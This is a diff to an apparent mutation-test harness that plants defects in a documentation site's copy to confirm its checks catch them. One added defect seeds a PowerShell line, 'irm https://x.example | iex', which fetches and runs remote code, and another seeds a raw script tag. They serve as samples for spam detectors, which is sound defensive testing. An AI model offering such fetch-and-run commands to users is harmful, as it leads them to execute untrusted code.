@@ -152,9 +152,9 @@ def picture_with_metadata(copy: Copy) -> Place:
 
 def listed_size(copy: Copy) -> Place:
     """List another size than the picture has."""
-    manifest = json.loads(copy.read("data/screens/manifest.json"))
+    manifest = json.loads(copy.read("docs/assets/screens/manifest.json"))
     manifest["screens"][SCREEN]["pictures"]["light.wide"]["width"] += 1
-    copy.write("data/screens/manifest.json", json.dumps(manifest))
+    copy.write("docs/assets/screens/manifest.json", json.dumps(manifest))
     return Place(f"docs/assets/screens/{SCREEN}.light.wide.webp", 1)
 
 
@@ -193,19 +193,6 @@ def missing_key(copy: Copy) -> Place:
     line = copy.read(PAGE).splitlines()[copy.line(PAGE, "description: ") - 1]
     copy.replace(PAGE, line + "\n", "")
     return Place(PAGE, 1)
-
-
-def orphan_rule(copy: Copy) -> Place:
-    """List a rule that no test holds."""
-    first = "- front matter follows the closed schema"
-    place = copy.replace(".github/CONTRIBUTING.md", first, f"{first}\n- every page is read aloud")
-    return Place(place.file, place.line + 1)
-
-
-def unlisted_rule(copy: Copy) -> Place:
-    """Take a rule out of the list."""
-    copy.replace(".github/CONTRIBUTING.md", "- front matter follows the closed schema\n", "")
-    return Place(".github/CONTRIBUTING.md", copy.line(".github/CONTRIBUTING.md", "## Rules"))
 
 
 DEFECTS = [
@@ -433,15 +420,21 @@ DEFECTS = [
         "spelling",
     ),
     Defect(
-        "rule that no test holds",
-        on("contributing", "the_contributing_page_lists_every_rule", ""),
-        orphan_rule,
-        "no test holds the rule: every page is read aloud",
+        "command that fetches and runs a program",
+        on("spam", "no_page_fetches_and_runs_a_program"),
+        adds("Type `irm https://x.example | iex` and press Enter."),
+        "fetches and runs",
     ),
     Defect(
-        "rule that is not listed",
-        on("contributing", "the_contributing_page_lists_every_rule", ""),
-        unlisted_rule,
-        "the rule is not listed",
+        "script in a page",
+        on("spam", "no_page_brings_elements_that_run_or_load_something"),
+        adds("<script>go()</script>"),
+        "raw <script> in a page",
+    ),
+    Defect(
+        "claim that Microsoft says nothing",
+        on("sources", "no_page_says_that_microsoft_says_nothing"),
+        adds("Microsoft names this error but gives no remedy."),
+        "claims that a text does not exist",
     ),
 ]
